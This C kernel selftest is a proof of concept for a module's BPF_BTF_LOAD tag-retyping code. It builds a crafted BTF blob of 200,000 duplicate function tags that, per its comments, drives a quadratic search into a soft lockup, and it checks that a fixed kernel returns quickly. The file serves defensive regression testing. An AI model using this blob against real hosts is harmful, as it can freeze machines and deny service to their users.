// SPDX-License-Identifier: GPL-2.0
/*
 * Review PoC for module/btf_load.c (BPF_BTF_LOAD, "arg:arena" retyping),
 * separate from btf_retype_overflow_test (whose PoC corrupts the kernel heap).
 * Who reaches it: any CAP_BPF caller of BPF_BTF_LOAD on 6.1 with the module.
 */
#include <errno.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <linux/btf.h>

#include "kselftest_harness.h"
#include "test_util.h"

static const char strs[] = "\0int\0f\0arg:arena";
#define S_INT	1
#define S_F	5
#define S_TAG	7

/*
 * The same function's duplicate search is quadratic in the number of tagged
 * FUNCs, with no cond_resched(): 200000 tags (a 5.6 MiB blob, well under the
 * kernel's 16 MiB BTF limit) take 2e10 comparisons in one syscall with
 * preemption off on a !PREEMPT kernel: a soft lockup.  Stock 6.1 parses such
 * a blob in linear time.  The prototype is small, so the size sum does not
 * wrap here.  Expected (fixed): the call returns within seconds.
 */
#define NTAGS	200000

TEST(arg_arena_retype_quadratic)
{
	size_t type_len = 16 + 20 + (size_t)NTAGS * (12 + 16);
	size_t size = sizeof(struct btf_header) + type_len + sizeof(strs);
	uint8_t *blob = calloc(1, size);
	struct btf_header *h = (void *)blob;
	struct timespec t0, t1;
	union bpf_attr attr;
	uint32_t *p, i;
	long fd;

	ASSERT_NE(NULL, blob);
	h->magic = BTF_MAGIC;
	h->version = BTF_VERSION;
	h->hdr_len = sizeof(*h);
	h->type_len = type_len;
	h->str_off = type_len;
	h->str_len = sizeof(strs);
	p = (uint32_t *)(blob + sizeof(*h));
	p = btf_put_type(p, S_INT, BTF_KIND_INT, 0, 4);		/* [1] int */
	*p++ = 32;
	p = btf_put_type(p, 0, BTF_KIND_FUNC_PROTO, 1, 1);		/* [2] int (int) */
	*p++ = S_F;
	*p++ = 1;
	for (i = 0; i < NTAGS; i++)				/* [3 ..] FUNC f */
		p = btf_put_type(p, S_F, BTF_KIND_FUNC, 1, 2);
	for (i = 0; i < NTAGS; i++) {
		p = btf_put_type(p, S_TAG, BTF_KIND_DECL_TAG, 0, 3 + i);
		*p++ = 0;
	}
	ASSERT_EQ((uint8_t *)p, blob + sizeof(*h) + type_len);
	memcpy(p, strs, sizeof(strs));

	memset(&attr, 0, sizeof(attr));
	attr.btf = ptr_u64(blob);
	attr.btf_size = size;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	fd = bpf_sys(BPF_BTF_LOAD, &attr);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	if (fd >= 0)
		close(fd);
	TH_LOG("BPF_BTF_LOAD: %ld (errno %d) after %ld s", fd, fd < 0 ? errno : 0,
	       (long)(t1.tv_sec - t0.tv_sec));
	EXPECT_GT(10, t1.tv_sec - t0.tv_sec);
	free(blob);
}

TEST_HARNESS_MAIN
